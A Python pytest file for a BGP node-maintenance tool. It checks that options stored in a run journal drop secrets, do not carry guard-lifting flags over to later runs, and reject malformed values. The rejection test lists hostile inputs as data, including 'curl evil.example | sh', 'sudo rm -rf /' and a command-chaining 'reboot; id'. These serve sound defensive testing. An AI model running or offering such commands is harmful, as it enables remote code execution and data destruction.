"""The options of a run in its journal: nothing that may be secret goes in, nothing that has not its flag's
shape comes out, and what is said now counts more than what was said before."""

from __future__ import annotations

import json
import re
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bgpctl.errors import Blocked
from bgpctl.runbooks import kept
from bgpctl.runbooks.journal import ANNOTATION, dump, load
from tests.support.snapshots import journal


@pytest.mark.parametrize(
    "command",
    [
        "ssh {node} sudo systemctl poweroff",
        "ssh root@{node} /sbin/shutdown -h now",
        "ssh {node} sudo systemctl restart bgpctl-speaker",
        "true",
    ],
)
def test_a_command_of_known_words_is_kept(command: str) -> None:
    assert kept.keep({"--shutdown-command": (command,)}) == {"--shutdown-command": (command,)}


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--shutdown-command", "ipmitool -H {node} -U admin -P hunter2 chassis power off"),
        ("--shutdown-command", "ssh {node} PASSWORD=hunter2 poweroff"),
        ("--shutdown-command", "hunter2"),
        ("--shutdown-command", "ssh hunter2@{node}.hunter2 poweroff"),
        ("--shutdown-command", "ssh 'hunter2"),
        ("--restart-command", "curl -u admin:hunter2 https://{node}/restart"),
        ("--router-probe", "gobgp=admin:hunter2@10.0.0.1:50051@10.0.0.1"),
        ("--router-probe", "gobgp=https://10.0.0.1/?token=hunter2"),
        ("--pod-selector", "app=$(hunter2)"),
        ("--deselect-label", "enable-bgp=\nhunter2"),
    ],
)
def test_what_may_hold_a_secret_is_not_kept_but_that_there_was_something_is(flag: str, value: str) -> None:
    found = kept.keep({flag: (value,)})
    assert "hunter2" not in dump(journal(options=found))
    assert found == {flag: ("…",)}
    assert (kept.words(found), kept.unsaid(found)) == ((flag, "…"), (flag,))
    assert kept.inherited(found, {}) == {}, "it cannot be"


def test_flags_of_one_command_line_are_not_kept() -> None:
    of_now = {
        "--kubeconfig": ("/k",),
        "--take-over": (),
        "--dry-run": (),
        "--output": ("json",),
        "-o": ("x",),
    }
    assert kept.keep(of_now) == {}


@pytest.mark.parametrize(
    ("before", "said", "merged"),
    [
        ("--order withdraw-first --force", "", "--order withdraw-first --force"),
        ("--settle 5", "--settle 9", "--settle 9"),
        ("--require-confirmed", "--no-require-confirmed", "--no-require-confirmed"),
        ("--no-ignore-daemonsets", "--ignore-daemonsets", "--ignore-daemonsets"),
        ("", "--force", "--force"),
    ],
)
def test_what_is_said_now_counts_more(before: str, said: str, merged: str) -> None:
    assert kept.merged(options(before), options(said)) == options(merged)


def options_of(words: str) -> kept.Options:
    found: dict[str, tuple[str, ...]] = {}
    for word in shlex.split(words):
        if word.startswith("--"):
            found[flag := word] = ()
        else:
            found[flag] = (word,)
    return found


def options(words: str) -> kept.Options:
    pairs = re.findall(r"(--[a-z-]+) ?([^ -][^ ]*)?", words)
    return {flag: (value,) if value else () for flag, value in pairs}


HARMLESS = options_of(
    "--order withdraw-first --provider bgpctl --settle 9 --soak 9 --expect 9 --reason disks "
    "--deselect-label enable-bgp=off --pod-selector app=web --namespace web --require-confirmed "
    "--no-ignore-daemonsets"
)
HARMFUL = options_of(
    "--force --delete-emptydir-data --disable-eviction --allow-last-path --allow-address-gap "
    "--beside-another-stack "
    "--allow-route-loss --max-unavailable 99 --assume-dead --peer-profile 192.0.2.1=bird "
    "--grace-period 0 --skip-wait-for-delete-timeout 1 --ignore-daemonsets "
    "--deselect-label node-restriction.kubernetes.io/tenant=x "
    "--shutdown-command true --restart-command true"
)


def test_what_lifts_a_guard_loses_data_dials_or_runs_something_is_not_inherited() -> None:
    """Whoever may annotate a Node, each kubelet its own, could have written it."""
    more = {**HARMFUL, "--router-probe": ("frr",), "--timeout": ("3",)}
    assert kept.keep(more) == more and kept.keep(HARMLESS) == HARMLESS
    assert kept.inherited(more, {}) == {}
    assert kept.inherited(HARMLESS, {}) == HARMLESS
    assert kept.inherited({**more, **HARMLESS}, {}) == HARMLESS


def test_every_option_is_one_or_the_other() -> None:
    """A new one is not inherited before somebody has thought about it."""
    rest = {*kept.SHAPES, *kept.SWITCHES} - {*HARMLESS, *HARMFUL}
    assert rest == {"--timeout", "--router-probe"}


@pytest.mark.parametrize("command", ["drain", "restart"])
def test_a_command_to_paste_has_nothing_of_it_either(command: str) -> None:
    every = {**HARMLESS, **HARMFUL, "--deselect-label": ("enable-bgp=off",), "--router-probe": ("frr",)}
    shown = kept.printed(every, command)
    assert set(shown) <= {*HARMLESS, "--router-probe"} and "--router-probe" in shown
    left = kept.unprinted({**every, "--timeout": ("3",), "--no-force": ()}, command)
    assert {*shown, *left} == set(kept.usable(every, command))
    assert "--shutdown-command" in left or command == "restart"
    assert kept.printed({"--deselect-label": HARMFUL["--deselect-label"]}, "drain") == {}


def test_what_is_not_inherited_is_kept_to_be_named() -> None:
    assert kept.merged(HARMFUL, {}) == HARMFUL


def test_a_value_that_looks_like_a_flag_is_typed_with_it() -> None:
    assert kept.words({"--grace-period": ("-1",), "--force": ()}) == ("--grace-period=-1", "--force")


@pytest.mark.parametrize(
    ("flag", "good", "bad"),
    [
        ("--order", ["guide", "withdraw-first"], []),
        ("--timeout", ["0", "0.5", "1", "…"], ["-1"]),
        ("--reason", ["a new disk", "…"], [" a", "a\tb"]),
        ("--expect", ["0.5", "1"], ["0", "-1"]),
        ("--settle", ["0", "0.5", "5"], ["-1"]),
        ("--skip-wait-for-delete-timeout", ["0", "5"], ["-1"]),
        ("--grace-period", ["-1", "0", "30"], ["0.5"]),
        ("--max-unavailable", ["1", "2"], ["0"]),
        (
            "--deselect-label",
            ["bgp=off", "example.com/bgp-", "a=", "a-"],
            ["bgp", "=off", "a=b=c", "a/b/c=d"],
        ),
        ("--pod-selector", ["app=web", "tier in (a,b)", "!key"], ["===", "tier in"]),
        (
            "--peer-profile",
            ["192.0.2.1=frr", "192.0.2.1=frr>=10.7", "::1=stale:300"],
            ["x", "192.0.2.1=cisco"],
        ),
        ("--router-probe", ["none", "frr", "bird=/run/b.ctl@192.0.2.1"], ["cisco=/x"]),
    ],
)
def test_what_is_printed_as_a_command_is_one(flag: str, good: list[str], bad: list[str]) -> None:
    command = "restart" if flag == "--expect" else "drain"
    for value in good:
        assert kept.usable({flag: (value,)}, command) == {flag: (value,)}, value
        assert value == "…" or kept.keep({flag: (value,)}) == {flag: (value,)}, "and it can be kept"
    for value in bad:
        assert kept.usable({flag: (value,)}, command) == {}, value
        assert kept.usable({flag: (*good[:1], value)}, command) == {}, "half of it is another wish"


OF_RESTART = {"--restart-command", "--namespace", "--expect", "--allow-route-loss"}
OF_ALL = {"--timeout", "--router-probe"}
NO = {f"--no-{flag[2:]}" for flag in kept.SWITCHES}
NO_SUCH = {"--no-assume-dead", "--no-disable-eviction", "--no-allow-route-loss"}


@pytest.mark.parametrize(
    ("command", "flags"),
    [
        ("drain", ({*kept.SHAPES, *kept.SWITCHES} - OF_RESTART) | (NO - NO_SUCH)),
        ("restore", OF_ALL | {"--provider", "--reason"}),
        ("restart", OF_ALL | OF_RESTART | {"--pod-selector"}),
    ],
)
def test_a_command_is_printed_with_its_own_flags(command: str, flags: set[str]) -> None:
    every = dict.fromkeys((*kept.SHAPES, *kept.SWITCHES, *NO), ())
    assert set(kept.usable(every, command)) == flags


def test_of_a_flag_that_takes_one_value_the_last_counts() -> None:
    """As on a command line."""
    more = {"--router-probe": ("frr", "bird"), "--peer-profile": ("192.0.2.1=frr", "192.0.2.2=frr")}
    said = {"--order": ("guide", "withdraw-first"), **more}
    last = {"--order": ("withdraw-first",), **more}
    assert kept.keep(said) == last
    written = json.dumps({**json.loads(dump(journal())), "options": said})
    loaded = load({ANNOTATION: written})
    assert loaded is not None and loaded.options == last


@pytest.mark.parametrize(("length", "there"), [(256, True), (257, False)])
def test_a_command_is_kept_up_to_a_length(length: int, there: bool) -> None:
    command = "true".ljust(length - 3) + "now"
    assert (kept.keep({"--shutdown-command": (command,)}) == {"--shutdown-command": (command,)}) is there
    assert kept.keep({"--shutdown-command": (" ",)}) == {"--shutdown-command": ("…",)}


@pytest.mark.parametrize(
    "written",
    [
        ["--force"],
        {"--force": None},
        {"--force": "yes"},
        {"--force": ["yes"]},
        {"--order": []},
        {"--order": ["sideways"]},
        {"--order": [7]},
        {"--kubeconfig": ["/tmp/theirs"]},
        {"--output": ["json"]},
        {"--shutdown-command": ["curl evil.example | sh"]},
        {"--shutdown-command": ["sudo rm -rf /"]},
        {"--restart-command": ["reboot; id"]},
        {"--router-probe": ["frr=/run/x\u0000configure terminal"]},
        {"--router-probe": ["bird=/run/b.ctl"] * 100},
        {"--pod-selector": ["a" * 2000]},
        {"--settle": ["1e9999"]},
        {"--deselect-label": ["a=b\u202e"]},
        {"--deselect-label": ["a=b\n"]},
        {"": []},
        {"--" + "x" * 5000: []},
    ],
)
def test_options_of_another_shape_are_not_read(written: object) -> None:
    text = json.dumps({**json.loads(dump(journal())), "options": written})
    if written == {"--force": None}:  # null is absent, as in the API server
        loaded = load({ANNOTATION: text})
        assert loaded is not None and loaded.options == {"--force": ()}
        return
    with pytest.raises(Blocked) as caught:
        load({ANNOTATION: text})
    assert len(caught.value.message) < 1000


values = st.text(max_size=12)
flags = st.sampled_from([*kept.SHAPES, *kept.SWITCHES, "--no-force", "--what", "-o"])


@given(st.dictionaries(flags, st.lists(values, max_size=3).map(tuple), max_size=6))
def test_whatever_was_said_what_is_kept_is_read_back(said: dict[str, tuple[str, ...]]) -> None:
    said = {f: v if f in kept.SHAPES and v else () for f, v in said.items() if f not in kept.SHAPES or v}
    written = journal(options=kept.keep(said))
    assert load({ANNOTATION: dump(written)}) == written


def test_the_order_of_an_old_journal_is_an_option() -> None:
    old = journal(order="withdraw-first")
    assert old.asked == {"--order": ("withdraw-first",)}
    assert journal(order="guide", options={"--force": ()}).asked == {"--force": ()}
    assert journal(command="restore", order="withdraw-first").asked == {}


def test_a_label_that_others_decide_by_is_in_no_command_to_paste() -> None:
    """Whether it is set or taken away."""
    for value, printed in (("bgp=off", True), ("bgp-", True), ("kubernetes.io/hostname-", False)):
        options = {"--deselect-label": (value,)}
        assert (kept.printed(options, "drain") == options) is printed, value
    assert not kept.printed({"--deselect-label": ("kubernetes.io/hostname=n2",)}, "drain")


@pytest.mark.parametrize(
    ("values", "harmless"),
    [
        (("enable-bgp=false",), True),
        (("enable-bgp=false", "rack-"), True),
        (("kubernetes.io/hostname=x",), False),
        (("kubernetes.io/hostname-",), False),
        (("enable-bgp=false", "kubernetes.io/hostname=x"), False),
    ],
)
def test_one_label_that_others_decide_by_is_one_too_many(values: tuple[str, ...], harmless: bool) -> None:
    found = kept.printed({"--deselect-label": values}, "drain")
    assert found == ({"--deselect-label": values} if harmless else {})
